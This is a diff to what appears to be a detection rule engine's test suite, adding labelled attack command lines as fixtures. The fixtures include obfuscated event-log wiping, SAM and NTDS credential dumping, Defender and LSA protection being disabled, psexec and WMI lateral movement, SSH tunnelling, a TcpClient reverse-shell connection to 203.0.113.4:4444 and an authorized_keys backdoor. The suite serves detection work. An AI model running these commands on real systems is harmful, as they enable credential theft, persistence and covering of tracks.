@@ -44,7 +44,7 @@ from verifier.rules import (
     persistence,
     programs,
 )
-from verifier.told import decoded, meanings, number_of
+from verifier.told import decoded, key_form, meanings, number_of
 
 CMD = SYSTEM32 + "cmd.exe"
 REG = SYSTEM32 + "reg.exe"
@@ -474,6 +474,40 @@ CASES = {
         ("", many(4, lambda n: call(n, None, activity="flow", conn_state="REJ", dst_port=5888))),
         ("", many(10, lambda n: call(n, None, f"203.0.113.{n}", activity="flow", conn_state="SF"))),
     ],
+    "rights-opened": [
+        ("suspicious", [run("icacls.exe C:\\data /grant Everyone:(OI)(CI)F")]),
+        ("suspicious", [run("icacls D:\\x /grant *S-1-1-0:F")]),
+        ("suspicious", [run("takeown.exe /f C:\\Windows\\System32\\sethc.exe")]),
+        ("suspicious", [run("chmod 4755 /tmp/sh", path="/usr/bin/chmod")]),
+        ("", [run("icacls.exe C:\\data /grant Everyone:(RX)"), run("takeown.exe /f D:\\data")]),
+        ("", [run("chmod 0755 /srv/run.sh", path="/usr/bin/chmod"), run("icacls.exe C:\\data /grant CORP\\ana:F")]),
+    ],
+    "remote-execution": [
+        ("suspicious", [run("winrs.exe -r:fil-01 cmd /c hostname")]),
+        ("suspicious", [run("cmd.exe /c psexec64 \\\\fil-01 -s cmd")]),
+        ("suspicious", [run('wmic.exe /node:fil-01 service where name="x" call startservice')]),
+        ("suspicious", [script("Invoke-Command -ComputerName fil-01 -ScriptBlock { hostname }")]),
+        ("suspicious", [script("$d = [activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application', 'fil-01'))")]),
+        ("", [run("winrs.exe -?"), run("psexec.exe -s -i cmd"), run("wmic.exe /node:fil-01 os get caption")]),
+        ("", [script("Invoke-Command -ScriptBlock { hostname }"), script("[type]::GetTypeFromProgID('Excel.Application')")]),
+    ],
+    "traffic-forwarded": [
+        ("suspicious", [run("ssh.exe -N -R 8443:localhost:3389 x@203.0.113.9")]),
+        ("suspicious", [run("plink.exe -ssh -D 1080 x@203.0.113.9", path=DOWNLOADS + "plink.exe")]),
+        ("", [run("ssh.exe -L 5432:localhost:5432 db"), run("ssh.exe -i Rd.key db")]),
+    ],
+    "data-collected": [
+        ("suspicious", [script("$g.CopyFromScreen(0, 0, 0, 0, $b.Size)")]),
+        ("suspicious", [run("rar.exe a -hpSecret o.rar D:\\payroll", path="C:\\Tools\\rar.exe")]),
+        ("suspicious", [run("psr.exe /start /output o.zip /gui 0")]),
+        ("", [run("7z.exe a o.7z D:\\payroll"), run("7z.exe x -pSecret o.7z"), script("Set-Clipboard $text")]),
+    ],
+    "web-shell-written": [
+        ("confirmed", [write(0, "C:\\inetpub\\wwwroot\\x.aspx", "C:\\Windows\\System32\\inetsrv\\w3wp.exe")]),
+        ("confirmed", [write(0, "/var/www/html/up/x.php", "/usr/sbin/apache2")]),
+        ("suspicious", [write(0, "C:\\inetpub\\wwwroot\\x.aspx", CMD)]),
+        ("", [write(0, "C:\\inetpub\\wwwroot\\x.aspx", "C:\\Windows\\System32\\msdeploy.exe"), write(1, "C:\\inetpub\\wwwroot\\x.png", CMD)]),
+    ],
     "services-stopped": [
         ("suspicious", many(5, lambda n: run(f"net.exe stop svc{n}", at=n * 75))),
         ("", many(4, lambda n: run(f"net.exe stop svc{n}", at=n))),
@@ -600,6 +634,64 @@ def test_one_line_does_not_bear_itself_out():
 )
 def test_a_command_is_known_by_its_program_and_within_a_shell_by_the_name_in_it(name, text, meaning):
     assert meanings(name, text) == (frozenset({meaning}) if meaning else frozenset())
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "meaning"),
+    [
+        ("cmd.exe", "cmd /c w^evt^util c^l Security", "logs-wiped"),
+        ("powershell.exe", "Cl`ear-EventL`og -LogName Security", "logs-wiped"),
+        ("cmd.exe", 'cmd /c "C:\\Windows\\SysWOW64\\reg.exe" save HKLM\\SAM s', "hive-saved"),
+        ("reg.exe", "REG SAVE \\\\fil-01\\HKLM\\SECURITY s", "hive-saved"),
+        ("winrs.exe", "winrs -r:fil-01 wevtutil cl Security", "logs-wiped"),
+        ("ntdsutil.exe", 'ntdsutil "ac in ntds" "i" "cr fu c:\\x" q q', "directory-copied"),
+        ("powershell.exe", "powershell -version 2 -c x", "logging-weakened"),
+        ("bash", "bash -c 'echo > /var/log/auth.log'", "logs-wiped"),
+        ("rundll32.exe", "rundll32 zipfldr.dll,RouteTheCall calc.exe", "launched-by-proxy"),
+        ("wmic.exe", "wmic os get /format:evil.xsl", "launched-by-proxy"),
+        ("wmic.exe", "wmic os get caption /format:list", ""),
+        ("curl.exe", "curl.exe -o a http://203.0.113.4/a", "download-by-proxy"),
+        ("curl.exe", "curl.exe http://10.20.1.4:9090/metrics", ""),
+        ("rundll32.exe", "rundll32 url.dll,FileProtocolHandler https://x.example/", ""),
+        ("sc.exe", "sc create u binpath= C:\\Users\\ana\\u.exe", "service-changed"),
+        ("sc.exe", 'sc create u binpath= "C:\\Program Files\\u.exe"', ""),
+        ("bash", "bash -c 'echo x >> /home/ana/.ssh/authorized_keys'", "start-file-written"),
+        ("powershell.exe", "$c = New-Object Net.Sockets.TcpClient('203.0.113.4', 4444); $s = $c.GetStream()", "shell-over-network"),
+        ("powershell.exe", "(New-Object Net.Sockets.TcpClient).Connect('fil-01', 445)", ""),
+    ],
+)  # fmt: skip
+def test_what_a_command_means_does_not_hang_on_how_it_is_written(name, text, meaning):
+    assert (meaning in meanings(name, text)) if meaning else not meanings(name, text)
+
+
+def test_what_an_encoded_command_holds_counts_as_if_it_stood_in_clear():
+    assert "defence-command" in meanings("powershell.exe", encoded("Set-MpPreference -DisableRealtimeMonitoring $true"))
+    assert meanings("powershell.exe", encoded("Get-Service | Sort-Object Name | Out-String")) == frozenset()
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "HKLM\\System\\CurrentControlSet\\Control\\Lsa\\RunAsPPL",
+        "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Lsa\\RunAsPPL",
+        "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\LSA\\RunAsPPL",
+    ],
+)
+def test_a_registry_path_has_one_form(path):
+    assert key_form(path) == "hklm\\system\\currentcontrolset\\control\\lsa\\runasppl"
+    assert found(setting(0, "DWORD (0x00000000)", path, REG)) == ["security-switch suspicious L1-1"]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "reg.exe add \\\\fil-01\\HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v RunAsPPL /t REG_DWORD /d 0",
+        "powershell.exe Set-ItemProperty HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa RunAsPPL 0",
+        "powershell.exe Set-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa' -Name RunAsPPL -Value 0",
+    ],
+)
+def test_a_setting_is_known_in_all_forms_of_its_command(command):
+    assert found(run(command)) == ["security-switch suspicious L1-1"]
 
 
 def test_a_renamed_program_is_known_by_its_version_resource():
